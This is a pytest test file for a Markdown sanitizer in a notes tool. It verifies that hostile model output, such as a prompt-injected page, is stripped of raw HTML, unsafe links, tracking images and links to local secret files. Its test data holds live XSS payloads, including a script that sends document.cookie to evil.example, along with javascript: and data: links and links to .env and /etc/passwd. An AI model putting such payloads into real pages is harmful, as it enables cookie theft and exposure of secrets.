"""Hostile model output (a prompt-injection page the author shared) never reaches an article
as HTML or a live link; `check` reports each kind in what is already there (#23, case 5)."""

from __future__ import annotations

import pytest

from notes.drafting.answers import Insertion
from notes.kb import KnowledgeBase
from notes.markdown import links, parser, sanitize
from notes.upkeep import check
from tests.notes.drafting.test_compose import A, hand_edited, updated, write_answer, written

PATH = "articles/x.md"
KB_FILES = {"articles/other.md", "assets/images/x/shot.jpg", "inbox/audio/n.ogg", "inbox/used/n.md"}
FIGURE = (
    "<figure>\n"
    '  <img src="../assets/images/x/shot.jpg" alt="A shot">\n'
    "  <figcaption>The test run after the fix<br>second line</figcaption>\n"
    "</figure>"
)
HOSTILE = {
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>": sanitize.RAW_HTML,
    '<img src="x" onerror="alert(1)">': sanitize.RAW_HTML,
    '<iframe src="https://evil.example/"></iframe>': sanitize.RAW_HTML,
    "[click me](javascript:alert(1))": sanitize.UNSAFE_LINK,
    "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)": sanitize.UNSAFE_LINK,
    "<javascript:alert(1)>": sanitize.UNSAFE_LINK,
    "![](https://tracker.example/pixel.gif?u=alexey)": sanitize.REMOTE_IMAGE,
    "[config](../.env)": sanitize.KB_LINK,
    "[passwords](/etc/passwd)": sanitize.KB_LINK,
    "[history](../.git/config)": sanitize.KB_LINK,
    "[state](../.voicenotes/runs/2026-12.jsonl)": sanitize.KB_LINK,
    "[up](../../secrets.md)": sanitize.KB_LINK,
}


def exists(rel: str) -> bool:
    return rel in KB_FILES


def rendered_html(text: str) -> list[str]:
    """The raw HTML a Markdown renderer would pass through (blocks and inline)."""
    found = []
    for token in parser.parse(text):
        if token.type == "html_block":
            found.append(token.content)
        for child in token.children or []:
            if child.type == "html_inline":
                found.append(child.content)
    return found


@pytest.mark.parametrize("hostile", list(HOSTILE))
def test_each_hostile_form_is_defused_and_named(hostile: str) -> None:
    text, found = sanitize.sanitize(f"Intro.\n\n{hostile}\n\nEnd.\n", PATH, exists)
    assert [f.kind for f in found] == [HOSTILE[hostile]]
    assert found[0].line == 3
    assert rendered_html(text) == []
    assert [link.target for link in links.scan(parser.parse(text))] == []
    assert text.startswith("Intro.\n\n") and text.endswith("\n\nEnd.\n")


def test_remote_images_keep_their_alt_text_and_unlinked_links_their_text() -> None:
    text, _ = sanitize.sanitize(
        "See ![the chart](https://x.example/c.png) and [the key](../.env).", PATH, exists
    )
    assert text == "See the chart and the key."


def test_what_is_allowed_comes_back_byte_for_byte() -> None:
    allowed = (
        "# Title\n\nText with [a page](https://example.org/a?b=1), [mail](mailto:a@b.c),\n"
        "[another article](other.md#part), ![shot](../assets/images/x/shot.jpg), "
        "[audio](../inbox/audio/n.ogg#t=1,5), a footnote[^1] and <!-- a comment -->.\n\n"
        f"{FIGURE}\n\n"
        "`<script>` in code, and a fence:\n\n```html\n<script>alert(1)</script>\n```\n\n"
        "    <iframe src=x> indented code\n\n[^1]: [n.md](../inbox/used/n.md)\n"
    )
    assert sanitize.sanitize(allowed, PATH, exists) == (allowed, [])


def test_a_figure_with_a_remote_or_active_image_is_not_the_figure_form() -> None:
    remote = FIGURE.replace("../assets/images/x/shot.jpg", "https://evil.example/p.gif")
    active = FIGURE.replace('alt="A shot"', 'alt="A shot" onload="alert(1)"')
    for figure, kind in ((remote, sanitize.REMOTE_IMAGE), (active, sanitize.RAW_HTML)):
        text, found = sanitize.sanitize(figure, PATH, exists)
        assert [f.kind for f in found] == [kind]
        assert "<img" not in text and "&lt;img" in text


def test_a_new_article_is_written_without_the_hostile_parts() -> None:
    body = "Claim[^S1].\n\n" + "\n\n".join(HOSTILE) + "\n"
    answer = write_answer(body, title="<img src=x onerror=alert(1)>Roles")
    text = written("articles/x.md", answer, [A], exists=exists)
    assert rendered_html(text) == []
    assert "](javascript:" not in text
    assert "](data:" not in text and "](../.env)" not in text and "](/etc/passwd)" not in text
    assert "![](https://tracker" not in text
    assert sanitize.findings(text, "articles/x.md") == []


def test_an_update_defuses_its_insertions_and_never_touches_the_author_s_lines() -> None:
    original = hand_edited().replace(
        "My own hand-written line", 'My own <span style="color:red">hand-written</span> line'
    )
    hostile = Insertion(
        section=None,
        heading="<script>x</script>More",
        markdown="New claim[^S1] <img src=x onerror=alert(1)> [x](javascript:alert(1)).",
    )
    text = updated(original, hostile)
    assert '<span style="color:red">hand-written</span>' in text
    assert "&lt;img src=x onerror" in text and "](javascript:" not in text
    assert "&lt;script>x&lt;/script>More" in text


def test_check_reports_each_kind_one_line_each_and_changes_nothing(kb: KnowledgeBase) -> None:
    body = "\n\n".join(HOSTILE)
    article = (
        '---\ntitle: "X"\ncreated: 2026-03-01\nupdated: 2026-03-01\ntags: []\n'
        f"status: draft\n---\n\n# X\n\n<span>his own inert HTML</span>\n\n{body}\n"
    )
    (kb.articles / "x.md").write_text(article, "utf-8")
    report = check.check_kb(kb)
    found = [w for w in report.warnings if w.path == PATH]
    assert sorted(w.kind for w in found) == sorted(HOSTILE.values())
    assert all("\n" not in str(w) for w in found)
    assert "raw HTML: <script>" in {w.message[: len("raw HTML: <script>")] for w in found}
    assert (kb.articles / "x.md").read_text("utf-8") == article


def test_a_long_unclosed_tag_takes_linear_time() -> None:
    """An answer of one `<a` and 200,000 spaces: a fraction of a second (a quadratic scan of
    20,000 took 15 s)."""
    import time

    started = time.monotonic()
    text, found = sanitize.sanitize("<a " + " " * 200_000 + "x", PATH, exists)
    assert time.monotonic() - started < 5
    assert found == [] and text.endswith("x")
